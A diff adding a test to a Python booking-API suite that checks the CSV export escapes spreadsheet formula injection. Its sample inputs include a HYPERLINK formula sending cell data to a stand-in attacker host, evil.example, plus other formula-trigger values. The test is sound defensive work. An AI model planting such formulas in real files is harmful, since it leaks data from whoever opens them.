@@ -1,4 +1,6 @@
+import csv
 import datetime as dt
+import io
 
 from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
 from sqlalchemy import text
@@ -41,6 +43,33 @@ async def test_agent_gets_the_day_of_their_site_in_json_and_csv(booking_client, 
     assert len(lines) == 3 and "Camille Martin" in lines[1] and "confirmé" in lines[1]
     by_accept = await booking_client.get(url, params={"date": day}, headers=headers | {"Accept": "text/csv"})
     assert by_accept.text == csv.text
+
+
+async def test_the_csv_export_never_runs_a_formula(booking_client, stop_agenda, make_token):
+    """A name or note that a spreadsheet would evaluate comes out as inert text, prefixed with '."""
+    agenda = await stop_agenda()
+    day = in_days(4)
+    slots = await free_slots(booking_client, agenda["stop_id"], **{"from": day, "to": day})
+    hostile = [
+        ('=HYPERLINK("https://evil.example/?x="&A1,"Voir")', "+SUM(1;1)"),
+        ("@SUM(1+1)", "-2+3"),
+        ("\tTabulée", "\rretour"),
+    ]
+    for slot, (name, note) in zip(slots, hostile, strict=False):
+        body = booking_body(agenda["stop_id"], slot["starts_at"], name=name) | {"note": note}
+        assert (await booking_client.post("/v1/bookings", json=body)).status_code == 201
+    url = f"/v1/agent/sites/{agenda['site_id']}/bookings"
+    response = await booking_client.get(
+        url, params={"date": day, "format": "csv"}, headers=bearer(make_token("agent", [agenda["site_id"]]))
+    )
+    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff")), delimiter=";"))
+    header, body_rows = rows[0], rows[1:]
+    names = [row[header.index("nom")] for row in body_rows]
+    notes = [row[header.index("note")] for row in body_rows]
+    assert sorted(names) == sorted("'" + name for name, _ in hostile)
+    assert sorted(notes) == sorted("'" + note for _, note in hostile)
+    for row in body_rows:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
 
 
 async def test_only_a_valid_token_of_that_site_opens_its_bookings(booking_client, stop_agenda, make_token):
